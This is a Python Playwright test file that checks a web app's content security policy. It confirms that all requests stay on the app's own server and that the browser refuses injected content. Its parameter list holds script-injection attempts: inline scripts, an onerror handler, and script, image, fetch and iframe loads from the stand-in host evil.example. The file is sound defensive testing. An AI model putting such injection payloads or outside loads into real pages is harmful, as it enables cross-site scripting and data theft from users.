"""The content security policy at work: what the browser itself refuses."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.browser.explorer import Explorer

pytestmark = pytest.mark.browser


def test_all_that_the_page_asks_for_comes_from_its_own_server(page, server):
    """No CDN, no statistics: every request and every WebSocket of a whole run."""
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("websocket", lambda socket: asked.append(socket.url))
    explorer = Explorer(page).open("steps=100")
    explorer.train()
    expect(explorer.status).to_contain_text("Finished")
    fetched = [urlsplit(url) for url in asked]
    assert any(url.path.endswith("plotly.min.js") for url in fetched)
    assert any(url.scheme == "ws" for url in fetched)
    own = urlsplit(server.url).netloc
    assert {url.netloc for url in fetched if url.scheme not in ("blob", "data")} == {own}


@pytest.mark.parametrize(
    ("what", "attempt"),
    [
        ("script-src", "add('script').textContent = 'window.ran = true'"),
        ("script-src", "add('img').setAttribute('onerror', 'window.ran = true')"),
        ("script-src", "add('script').src = 'https://evil.example/x.js'"),
        ("script-src", "add('script').src = 'data:text/javascript,window.ran = true'"),
        ("img-src", "add('img').src = 'https://evil.example/x.png'"),
        ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
        ("frame-src", "add('iframe').src = 'https://evil.example/'"),
    ],
)
def test_what_a_script_put_into_the_page_may_not_do(new_tab, what, attempt):
    """In a page without the fixture `page`, since Chromium logs each refusal as an error."""
    page = new_tab()
    page.goto("/")
    refused = page.evaluate(
        f"""() => new Promise(resolve => {{
            const add = tag => {{
                const made = document.createElement(tag)
                setTimeout(() => document.body.append(made))
                if (tag === "img") made.src = "/nosuch.png"
                return made
            }}
            document.addEventListener("securitypolicyviolation", event =>
                resolve(event.effectiveDirective))
            setTimeout(() => resolve("nothing"), 5000)
            {attempt}
        }})"""
    )
    assert refused.startswith(what)
    assert page.evaluate("window.ran") is None
    page.close()
